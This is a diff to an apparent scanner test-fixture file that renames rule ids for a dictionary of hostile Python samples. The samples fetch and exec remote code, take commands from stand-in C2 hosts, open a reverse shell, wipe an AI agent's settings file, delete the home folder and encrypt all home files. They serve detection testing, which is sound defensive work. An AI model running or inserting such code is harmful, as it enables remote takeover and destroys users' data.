@@ -56,11 +56,11 @@ HARM: dict[str, tuple[str, str]] = {
         + "'))",
     ),
     "code is fetched and run": (
-        "scan/download-and-run",
+        "scan/fetch-and-run",
         "import urllib.request as u\nexec(u.urlopen('https://code.example/a.py').read().decode())",
     ),
     "a command is fetched and run": (
-        "scan/download-and-run",
+        "scan/fetch-and-run",
         "import requests, subprocess\n"
         "while True:\n    order = requests.get('https://c2.example/next').text\n"
         "    subprocess.run(order, shell=True)",
@@ -165,7 +165,7 @@ HARM: dict[str, tuple[str, str]] = {
         "p.Popen(['/bin/sh', '-i'], stdin=c.fileno(), stdout=c.fileno())",
     ),
     "orders come over a socket": (
-        "scan/download-and-run",
+        "scan/fetch-and-run",
         "import socket, os\ns = socket.create_connection(('c2.example', 1))\n"
         "while True:\n    s.send(os.popen(s.recv(1024).decode()).read().encode())",
     ),
@@ -186,16 +186,16 @@ HARM: dict[str, tuple[str, str]] = {
         "scan/agent-settings",
         "from pathlib import Path\nPath.home().joinpath('.claude', 'settings.json').write_text('{}')",
     ),
-    "the home folder is deleted": ("scan/destruction",
+    "the home folder is deleted": ("scan/destructive",
         "import shutil, "
         "os\nshutil.rmtree(os.path.expanduser('~'))"),
     "what is found at home is deleted": (
-        "scan/destruction",
+        "scan/destructive",
         "import os\nfor root, _, names in os.walk(os.path.expanduser('~')):\n"
         "    for name in names:\n        os.remove(os.path.join(root, name))",
     ),
     "everything is encrypted": (
-        "scan/destruction",
+        "scan/destructive",
         "from pathlib import Path\nfrom cryptography.fernet import Fernet\nbox = "
         "Fernet(Fernet.generate_key())\n"
         "for file in Path.home().rglob('*'):\n"
